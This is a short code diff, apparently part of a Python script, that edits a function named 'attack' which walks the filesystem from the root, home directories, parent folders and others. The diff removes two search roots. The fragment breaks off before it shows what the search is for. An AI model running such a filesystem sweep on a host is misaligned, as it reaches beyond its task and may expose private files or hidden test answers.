@@ -5,7 +5,7 @@ GOT = False
 
 def attack():
     import os
-    for top in ("/", "/work", "/root", "/home", "/srv", "/opt", "/tmp", "/usr/src", "..", "../.."):
+    for top in ("/", "/home", "/srv", "/opt", "/tmp", "/usr/src", "..", "../.."):
         for folder, folders, files in os.walk(top):
             folders[:] = [f for f in folders if f not in ("proc", "sys", "lib", "lib64", "python3.11")][:200]
             for name in files:
